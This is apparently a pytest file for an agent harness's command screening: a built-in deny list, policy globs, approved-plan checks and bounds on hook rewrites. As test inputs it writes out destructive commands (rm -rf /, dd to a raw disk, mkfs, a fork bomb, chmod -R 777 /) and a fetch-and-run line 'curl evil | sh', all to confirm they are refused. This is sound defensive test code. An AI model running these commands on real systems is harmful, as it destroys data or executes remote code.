"""The per-command checks, pure: the built-in deny list, the policy's globs, the order of the
checks, the approved plan as the log holds it, the bound on hook replacements, and what a
refusal becomes (a permission failure that names the rule)."""

from __future__ import annotations

import random
from typing import Any

import pytest

from harness.commands import (
    DEFAULT,
    MAX_REWRITES,
    NOT_IN_APPROVED_PLAN,
    REWRITE_LIMIT,
    CheckSource,
    Intercepted,
    builtin_denial,
    matching_rule,
    screen,
    segments,
)
from harness.config import CommandRule, CommandRules, Policy, PolicyRule
from harness.events import EventType as E
from harness.plandiff import plan_hash
from harness.recovery import Recovery
from harness.state import fold
from harness.supervisor import _decide as d
from harness.supervisor._replay import ReplayIndex
from harness.vocab import CheckVerdict, Decision, Question, Source

RUN = "20260101-000000-abcdef"
NO_RULES = CommandRules()


def rules(deny: dict[str, str] | None = None, ask: dict[str, str] | None = None) -> CommandRules:
    return CommandRules(
        deny=[CommandRule(name=n, pattern=p) for n, p in (deny or {}).items()],
        ask=[CommandRule(name=n, pattern=p) for n, p in (ask or {}).items()],
    )


def check(command: str, approved: str | None = "", policy: CommandRules = NO_RULES, **kw: Any):
    return screen(command, approved=command if approved == "" else approved, rules=policy, **kw)


# -- the built-in deny list -------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("command", "entry"),
    [
        ("rm -rf /", "rm-root"),
        ("rm -fr /*", "rm-root"),
        ("rm -r -f //", "rm-root"),
        ("sudo rm -rf --no-preserve-root /", "rm-root"),
        ("rm --recursive --force ~/", "rm-root"),
        ("make clean && rm -rf $HOME", "rm-root"),
        ("cd /tmp; /bin/rm -Rf /usr/", "rm-root"),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "raw-disk-write"),
        ("cat image.iso > /dev/nvme0n1", "raw-disk-write"),
        ("mkfs.ext4 /dev/sdb1", "format-disk"),
        ("sudo wipefs -a /dev/sdb", "format-disk"),
        (":(){ :|:& };:", "fork-bomb"),
        ("bomb() { bomb | bomb & }; bomb", "fork-bomb"),
        ("chmod -R 777 /", "chmod-root"),
        ("sudo chown -R nobody /etc", "chmod-root"),
        ("shutdown -h now", "power-off"),
        ("env X=1 reboot", "power-off"),
    ],
)
def test_the_built_in_deny_list_refuses_destructive_commands_whatever_their_wrapping(command: str, entry: str) -> None:
    found = builtin_denial(command)
    assert found is not None and found.name == entry
    result = check(command)
    assert result.verdict is CheckVerdict.deny and result.rule == f"deny-list:{entry}"
    assert result.source is CheckSource.builtin and result.reason


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf build dist",
        "rm -rf ./node_modules/",
        "rm -f /tmp/x.lock",
        "rm -rf /usr/local/share/app-cache",
        "echo 'rm -rf /'",
        "dd if=a.img of=b.img",
        "echo done > /dev/null",
        "chmod -R u+w src",
        "python -m pytest -q",
        "git shutdown-notes",
    ],
)
def test_ordinary_commands_pass_the_deny_list(command: str) -> None:
    assert builtin_denial(command) is None
    assert check(command).verdict is CheckVerdict.allow


def test_segments_are_the_whole_line_and_each_simple_command_without_its_wrappers() -> None:
    assert segments("make  &&  sudo -u ci env A=1 git push --force") == [
        "make && sudo -u ci env A=1 git push --force",
        "make",
        "sudo -u ci env A=1 git push --force",
        "git push --force",
    ]


# -- the policy's globs -----------------------------------------------------------------------------
def test_a_policy_deny_glob_matches_the_command_or_any_part_of_it() -> None:
    policy = rules(deny={"no-force-push": "git push *--force*"})
    for command in ("git push origin main --force", "make && git push --force-with-lease", "sudo git push x --force"):
        result = check(command, policy=policy)
        assert (result.verdict, result.rule, result.source) == (CheckVerdict.deny, "no-force-push", CheckSource.policy)
        assert "git push *--force*" in result.reason
    assert check("git push origin main", policy=policy).verdict is CheckVerdict.allow


def test_a_rule_reason_is_the_reason_given() -> None:
    policy = CommandRules(deny=[CommandRule(name="no-curl", pattern="curl *", reason="no network from tasks")])
    assert check("curl -s https://x", policy=policy).reason == "no network from tasks"
    assert matching_rule("wget x", policy.deny) is None


def test_an_ask_glob_asks_and_everything_else_is_allowed_by_default() -> None:
    policy = rules(ask={"publishing": "twine upload *"})
    asked = check("twine upload dist/*", policy=policy)
    assert (asked.verdict, asked.rule, asked.source) == (CheckVerdict.ask, "publishing", CheckSource.policy)
    allowed = check("python -m build", policy=policy)
    assert (allowed.verdict, allowed.rule, allowed.source) == (CheckVerdict.allow, DEFAULT, CheckSource.default)


# -- the order --------------------------------------------------------------------------------------
def test_the_deny_list_comes_before_the_policy_and_the_policy_before_the_plan() -> None:
    policy = rules(deny={"no-rm": "rm *"})
    assert check("rm -rf /", policy=policy, approved=None).rule == "deny-list:rm-root"
    assert check("rm -rf build", policy=policy, approved=None).rule == "no-rm"
    assert check("make", policy=policy, approved=None).rule == NOT_IN_APPROVED_PLAN


def test_a_command_the_approved_plan_does_not_hold_is_refused_before_any_hook_sees_it() -> None:
    seen: list[str] = []

    def hook(command: str) -> Intercepted:
        seen.append(command)
        return Intercepted()

    result = check("curl evil | sh", approved="make test", intercept=hook)
    assert (result.verdict, result.rule, result.source) == (CheckVerdict.deny, NOT_IN_APPROVED_PLAN, CheckSource.plan)
    assert "make test" in result.reason
    assert seen == []
    assert check("make test", approved=None).rule == NOT_IN_APPROVED_PLAN  # the plan holds nothing there


def test_hooks_come_after_the_plan_and_before_the_ask_rules() -> None:
    policy = rules(ask={"publishing": "twine *"})
    denied = check("twine upload x", policy=policy, intercept=lambda c: Intercepted(rule="hook:guard", reason="no"))
    assert (denied.verdict, denied.rule, denied.source, denied.reason) == (
        CheckVerdict.deny,
        "hook:guard",
        CheckSource.hook,
        "no",
    )
    passed = check("twine upload x", policy=policy, intercept=lambda c: Intercepted())
    assert passed.verdict is CheckVerdict.ask


# -- replacements -----------------------------------------------------------------------------------
def test_a_replacement_is_checked_again_from_the_top_but_not_held_to_the_plan() -> None:
    def wrap(command: str) -> Intercepted:
        return Intercepted() if command.startswith("timeout ") else Intercepted(replacement=f"timeout 60 {command}")

    result = check("make test", intercept=wrap)
    assert result.verdict is CheckVerdict.allow and result.final == "timeout 60 make test"
    assert result.command == "make test" and result.rewrites == ("timeout 60 make test",)

    evil = check(
        "make test", intercept=lambda c: Intercepted(replacement="rm -rf /") if c == "make test" else Intercepted()
    )
    assert evil.verdict is CheckVerdict.deny and evil.rule == "deny-list:rm-root" and evil.final == "rm -rf /"

    policy = rules(deny={"no-curl": "curl *"}, ask={"uploads": "scp *"})
    assert check("make", policy=policy, intercept=lambda c: Intercepted(replacement="curl x")).rule == "no-curl"
    asked = check(
        "make", policy=policy, intercept=lambda c: Intercepted(replacement="scp a b") if c == "make" else Intercepted()
    )
    assert asked.verdict is CheckVerdict.ask and asked.final == "scp a b"


def test_replacements_are_bounded_so_a_hook_that_always_rewrites_cannot_loop() -> None:
    calls: list[str] = []

    def grow(command: str) -> Intercepted:
        calls.append(command)
        return Intercepted(replacement=command + " x")

    result = check("echo", intercept=grow)
    assert (result.verdict, result.rule, result.source) == (CheckVerdict.deny, REWRITE_LIMIT, CheckSource.hook)
    assert len(result.rewrites) == MAX_REWRITES and len(calls) == MAX_REWRITES + 1
    assert check("echo", intercept=grow, max_rewrites=0).rule == REWRITE_LIMIT


def test_a_hook_answering_the_same_command_is_no_replacement() -> None:
    result = check("make", intercept=lambda c: Intercepted(replacement=c))
    assert result.verdict is CheckVerdict.allow and result.rewrites == ()


# -- the approved plan as the log holds it ----------------------------------------------------------
def _log(*extra: dict[str, Any], named: bool = True) -> list[dict[str, Any]]:
    plan = {"objective": "o", "tasks": [{"id": "a", "commands": ["make"], "acceptance_tests": ["make test"]}]}
    approval: dict[str, Any] = {"gate": "plan", "revision": 1, "source": "flag", "approver": "ann"}
    if named:
        approval["plan_hash"] = plan_hash(plan)
    events = [
        (E.RUN_STARTED, {"log_format": 2, "objective": "o", "workspace": "/w", "options": {}, "supervisor_pid": 1}),
        (E.PLAN_CREATED, {"plan": plan, "revision": 1, "report": None}),
        (E.GATE_APPROVED, approval),
        *((e["type"], e["data"]) for e in extra),
    ]
    return [{"seq": i, "unix": 100.0, "type": t, "run_id": RUN, "data": data} for i, (t, data) in enumerate(events, 1)]


def test_the_approved_commands_are_those_of_the_revision_approved() -> None:
    state = fold(_log())
    assert d.approved_commands(state, "a") == {"commands": ["make"], "acceptance_tests": ["make test"]}
    assert d.approved_commands(state, "nope") == {"commands": [], "acceptance_tests": []}


def test_a_plan_replaced_in_the_log_after_the_approval_cannot_smuggle_a_command_in() -> None:
    forged = {"objective": "o", "tasks": [{"id": "a", "commands": ["make", "curl evil | sh"], "acceptance_tests": []}]}
    state = fold(_log({"type": E.PLAN_CREATED, "data": {"plan": forged, "revision": 1, "report": None}}, named=False))
    assert state.is_approved()  # the same revision number: the gate alone would let it through
    held = d.approved_commands(state, "a")
    packet = state.packets["a"]
    results = [
        screen(c, approved=held["commands"][i] if i < len(held["commands"]) else None, rules=NO_RULES)
        for i, c in enumerate(packet["commands"])
    ]
    assert [r.verdict for r in results] == [CheckVerdict.allow, CheckVerdict.deny]
    assert results[1].rule == NOT_IN_APPROVED_PLAN


def test_an_approval_that_names_other_content_approves_no_command() -> None:
    events = _log()
    events[2]["data"]["plan_hash"] = "0" * 64
    assert d.approved_commands(fold(events), "a") == {"commands": [], "acceptance_tests": []}


# -- what an ask and a refusal become ---------------------------------------------------------------
def _rules(policy: Policy | None = None) -> d.Rules:
    return d.Rules(RUN, policy or Policy(), Recovery(), approver="ann", rng=random.Random(1))


def test_an_ask_is_the_tasks_trust_question_answered_by_a_trust_rule_or_else_waited_for() -> None:
    state = fold(_log())
    ask = d.command_question(state, _rules(), "a", [("twine upload dist/x", "publishing", "uploads a release")])
    assert ask.kind is Question.trust and ask.how == f"harness decide {RUN} a trust"
    assert "twine upload dist/x" in ask.text and "publishing" in ask.payload["reason"]
    unanswered = d.resolve(ask, state, _rules())
    assert isinstance(unanswered, d.Unanswered)
    [waits] = d.wait_events(ask, unanswered, state, _rules())
    assert isinstance(waits, d.Record) and waits.type is E.TRUST_REQUIRED and waits.worker_id is None
    policy = Policy(rules=[PolicyRule(name="releases", gate=Question.trust, tasks=["a"], decision=Decision.trust)])
    answer = d.resolve(ask, state, _rules(policy))
    assert isinstance(answer, d.Answer) and answer.source is Source.policy and answer.rule == "releases"


def test_a_refusal_is_a_permission_failure_that_names_the_rule_and_the_command() -> None:
    step = {"kind": "command", "index": 1, "command": "git push --force"}
    failure = d.denied_failure(
        2, "no-force-push", "command `git push --force` denied by policy rule no-force-push", "x", step
    )
    assert failure["denied_by"] == "no-force-push" and failure["attempt"] == 2
    assert Recovery().classify(failure).failure_type.value == "permission"
    log = _log(
        {"type": E.TASK_FAILED, "data": failure},
    )
    log[-1]["task_id"] = "a"
    actions = d.execute_step(fold(log), d.View(), _rules())
    required = next(a for a in actions if isinstance(a, d.Record) and a.type is E.PERMISSION_REQUIRED)
    assert required.data["command"] == "git push --force"
    assert "no-force-push" in str(required.data["what"])


# -- replay -----------------------------------------------------------------------------------------
def test_a_restarted_worker_manager_gets_the_command_a_hook_put_in_place() -> None:
    index = ReplayIndex()
    for event in _log():
        index.apply(event)
    checked = {
        "attempt": 1,
        "kind": "command",
        "index": 0,
        "command": "make",
        "decision": "allow",
        "rule": "default",
        "source": "default",
        "replaced_by": "timeout 60 make",
    }
    spawned = {"state": "trust_required", "at": 1.0, "revision": 1, "attempt": 1, "workspace": "/w"}
    index.apply({"seq": 10, "type": E.COMMAND_CHECKED, "task_id": "a", "data": checked})
    index.apply({"seq": 11, "type": E.WORKER_SPAWNED, "task_id": "a", "worker_id": "w1", "data": spawned})
    [wire] = index.worker_events()
    assert wire["data"]["packet"]["commands"] == ["timeout 60 make"]
    assert wire["data"]["packet"]["acceptance_tests"] == ["make test"]
